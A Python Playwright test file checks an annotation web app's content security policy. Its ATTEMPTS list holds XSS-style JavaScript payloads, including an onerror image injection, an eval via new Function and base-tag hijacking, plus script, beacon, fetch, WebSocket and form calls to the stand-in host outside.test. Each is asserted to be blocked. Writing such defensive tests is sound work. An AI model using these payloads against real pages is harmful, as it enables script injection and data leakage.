"""The content security policy in a real Chromium: nothing of ours breaks it, and what is not ours does not get past it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from annotation.people.links import invite
from annotation.people.principals import local_admin
from db.connect import transaction
from db.tables import Study
from tests.browser.conftest import EIGHT
from tests.browser.driving import new_tab, ready, signed_in, until
from tests.browser.test_accessibility import violations
from tests.security.policy import at_rest, refused, watch
from tests.small_study import make_study

pytestmark = [pytest.mark.browser, pytest.mark.slow]


@pytest.fixture
def watched(context: BrowserContext, server: Any) -> Iterator[tuple[Page, list[str]]]:
    """A tab that notes whatever its policy refuses, and the addresses elsewhere that it was asked to fetch."""
    page = new_tab(context)
    page.set_default_timeout(30_000)
    yield page, watch(page, server.address)
    page.close()


def link(server: Any, study_id: int, name: str, role: str) -> str:
    with transaction(server.engine) as session:
        token = invite(session, local_admin(session.get_one(Study, study_id)), name, role)
    return f"{server.address}/invite/{token}"


def test_an_annotators_pages_break_nothing_and_fetch_nothing_from_elsewhere(
    watched: tuple[Page, list[str]], server: Any, tmp_path: Path
) -> None:
    (page, elsewhere), found = watched, {}
    study_id = make_study(server.engine, tmp_path / "reports", overlap=2, protocol=EIGHT, name="policy")
    page.goto(f"{server.address}/invite/unknown")
    found["no such link"] = refused(page)
    page.goto(link(server, study_id, "Ada", "annotator"))
    ready(page)
    page.keyboard.press("1")
    page.keyboard.insert_text("because of that")
    page.keyboard.press("Control+Enter")
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    found["label"] = refused(page)
    for path, text in (
        ("my_work", "Log out in every browser"),
        ("consent", "Time and pay"),
        ("log_out", "In every browser"),
    ):
        page.goto(f"{server.address}/{path}")
        expect(page.get_by_text(text).first).to_be_visible()
        found[path] = refused(page)
    page.get_by_role("button", name="In every browser").wait_for()
    assert violations(page) == []
    page.get_by_role("button", name="In every browser").click()
    expect(page.get_by_role("heading")).to_have_text("You are signed out")
    found["signed out"] = refused(page)
    signed_in(page, link(server, study_id, "Adm", "admin"))
    for path in ("people", "blinding", "log_out"):  # an evaluator's: tests/browser/test_evaluator_screens.py
        page.goto(f"{server.address}/{path}")
        at_rest(page)
        found[path] = refused(page)
    assert {where: wrong for where, wrong in found.items() if wrong} == {}
    assert elsewhere == []


ATTEMPTS = (
    "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s)",
    "const s = document.createElement('script'); s.src = 'https://outside.test/x.js'; document.body.append(s)",
    "const i = new Image(); i.src = 'https://outside.test/pixel.png'; document.body.append(i)",
    "const f = document.createElement('iframe'); f.src = 'https://outside.test/'; document.body.append(f)",
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://outside.test/x.css'; document.head.append(l)",
    "fetch('https://outside.test/', {mode: 'no-cors'}).catch(() => 0)",
    "try { new WebSocket('wss://outside.test/') } catch {}",
    "navigator.sendBeacon('https://outside.test/', 'x')",
    "try { new Function('window.pwned = 1')() } catch {}",
    "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.pwned=1\">'; document.body.append(d)",
    "const f = document.createElement('form'); f.action = 'https://outside.test/'; document.body.append(f); f.submit()",
    "const b = document.createElement('base'); b.href = 'https://outside.test/'; document.head.append(b)",
    "const o = document.createElement('object'); o.data = 'data:text/html,x'; document.body.append(o)",
)  # fmt: skip


def test_what_a_hostile_page_would_do_is_refused(watched: tuple[Page, list[str]], server: Any) -> None:
    """The counterpart: the policy stands on the app's own page, and each attempt is noted as refused."""
    page, _ = watched
    page.goto(server.address)
    page.get_by_role("heading").first.wait_for()
    answered: list[str] = []
    page.on("response", lambda reply: answered.append(reply.url) if "outside.test" in reply.url else None)
    for attempt in ATTEMPTS:
        page.evaluate("window.refused.length = 0")
        page.evaluate(
            f"() => void setTimeout(() => {{ {attempt} }}, 0)"
        )  # as a script of the page's own, not a debugger's
        until(lambda: refused(page))
        assert page.evaluate("window.pwned") is None, attempt
        assert answered == [], attempt
        assert page.url == f"{server.address}/", attempt
